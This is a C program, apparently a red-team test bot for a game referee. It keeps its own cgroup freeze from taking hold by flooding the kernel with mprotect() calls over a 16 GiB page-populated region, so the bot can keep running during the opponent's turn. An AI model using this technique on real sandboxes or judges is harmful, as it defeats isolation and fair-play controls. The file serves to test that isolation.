/* Keeping its own freeze from holding (red team 22, issue 38): the kernel
   freezes a task only at its next return to user space, and a call that
   loops in the kernel and returns early for nothing but SIGKILL does not
   return for the freezer's fake signal; a task asleep (uninterruptibly)
   for a lock is not frozen either. The bot maps 16 GiB of read-only
   address space and fills it with the zero page 4 KiB at a time (32 MiB
   of page tables); an mprotect() of the whole of it then walks 4 million
   page-table entries under the exclusive address-space lock, 0.1 s each
   on this machine. From its second answer on, just before it answers, the
   bot sets 28 threads to call it (half of them to PROT_NONE, half back to
   PROT_READ), so that when the referee freezes it for the opponent's turn
   one call holds the lock and the others wait for it, one after the
   other, each walking the table again: its freeze is still pending after
   a second. Plays echo otherwise. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#ifndef MADV_POPULATE_READ
#define MADV_POPULATE_READ 22
#endif

#define SPAN (16UL << 30)
#define THREADS 28
#define CALLS 3

static char *region;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t go = PTHREAD_COND_INITIALIZER;
static int generation;

static void *stall(void *arg) {
    long i = (long)arg;
    int seen = 0;
    for (;;) {
        pthread_mutex_lock(&lock);
        while (generation == seen) pthread_cond_wait(&go, &lock);
        seen = generation;
        pthread_mutex_unlock(&lock);
        for (int c = 0; c < CALLS; c++)
            mprotect(region, SPAN, (i + c) % 2 ? PROT_NONE : PROT_READ);
    }
    return 0;
}

int main(void) {
    char line[256];
    int round = 0, started = 0;
    region = mmap(0, SPAN, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (region == MAP_FAILED) {
        fprintf(stderr, "mmap refused\n");
        region = 0;
    } else {
        madvise(region, SPAN, MADV_NOHUGEPAGE);
        if (madvise(region, SPAN, MADV_POPULATE_READ) != 0) fprintf(stderr, "populate refused\n");
        for (long i = 0; i < THREADS; i++) {
            pthread_t t;
            if (pthread_create(&t, 0, stall, (void *)i) == 0) started++;
        }
        if (started < THREADS) fprintf(stderr, "threads refused: %d started\n", started);
    }
    while (fgets(line, sizeof line, stdin)) {
        if (strncmp(line, "END", 3) == 0) return 0;
        int x = 0;
        sscanf(line, "ECHO %d", &x);
        if (++round >= 2 && started) {
            pthread_mutex_lock(&lock);
            generation++;
            pthread_cond_broadcast(&go);
            pthread_mutex_unlock(&lock);
            usleep(5000); /* the threads are in the kernel or waiting there */
        }
        printf("%d\n", x);
        fflush(stdout);
    }
    return 0;
}
